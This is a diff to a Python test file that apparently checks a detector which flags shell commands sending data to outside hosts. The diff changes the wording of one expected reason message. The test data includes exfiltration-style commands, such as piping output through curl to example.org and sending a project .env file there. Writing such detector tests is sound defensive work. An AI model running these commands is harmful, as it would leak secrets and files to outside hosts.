@@ -159,7 +159,7 @@ def test_the_reason_names_the_source(judge: Judge) -> None:
     assert decision.reason == f"Sends {PROJECT}/.env to example.org"
     assert [command[a:b] for a, b in decision.spans] == ["https://example.org", ".env"]
     assert judge(rules, "frobnicate | curl -d @- https://example.org").reason == (
-        "can't be ruled out: Sends frobnicate to example.org"
+        "Perhaps: Sends frobnicate to example.org"
     )
 
 
